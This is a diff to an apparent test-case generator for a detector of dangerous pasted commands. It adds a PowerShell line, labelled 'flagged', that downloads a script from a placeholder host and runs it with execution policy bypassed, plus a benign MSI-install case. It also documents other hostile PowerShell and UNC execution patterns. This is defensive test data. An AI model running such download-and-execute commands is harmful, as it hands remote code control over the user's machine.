@@ -31,7 +31,8 @@ Each line is {id, text, expect, technique, platform, source, target}. Techniques
   local key, or one's own keys as GitHub publishes them (github.com/<user>.keys): not flagged;
 - `ps-hidden-runs`: SecureString and NetworkCredential decoding into Invoke-Expression, C#
   fetched into Add-Type, a download piped into a second PowerShell, a download started with a
-  hidden window: `flagged` or `malicious`; their everyday uses: not flagged;
+  hidden window, a download saved under $env: and run by a script host: `flagged` or
+  `malicious`; their everyday uses, and a release MSI run from %TEMP% on its own page: quiet;
 - `unc-and-webdav`: -File / Invoke-Item / msiexec / rundll32 / file:// / wmic /format: / search-ms
   pointing at another computer: `malicious` or `flagged`; a single-label intranet server and a
   shared printer from the IT wiki: not flagged;
@@ -405,11 +406,28 @@ def ps_hidden_cases() -> list[dict[str, str]]:
             "-WindowStyle Hidden",
             "malicious",
         ),
+        (
+            f"$d=(iwr https://{h}/g).Content; Set-Content $env:TEMP\\g.ps1 $d; "
+            "powershell -ep bypass $env:TEMP\\g.ps1",
+            "flagged",
+        ),
     ]
     out = [
         case(f"rt-ps-hidden-{n}", text, expect, "T1027", "windows", page, "terminal")
         for n, (text, expect) in enumerate(lures, start=1)
     ]
+    out.append(
+        case(
+            "rt-ps-hidden-own-msi",
+            "iwr https://github.com/larkspur-io/lark/releases/download/v2.1.0/lark.msi "
+            "-OutFile $env:TEMP\\lark.msi; msiexec /i $env:TEMP\\lark.msi /qn",
+            "info",
+            BENIGN,
+            "windows",
+            "https://github.com/larkspur-io/lark/releases",
+            "terminal",
+        )
+    )
     benign = [
         "$pw = ConvertTo-SecureString $env:SVC_PASSWORD -AsPlainText -Force",
         "$cred = New-Object System.Management.Automation.PSCredential('svc', $pw)",
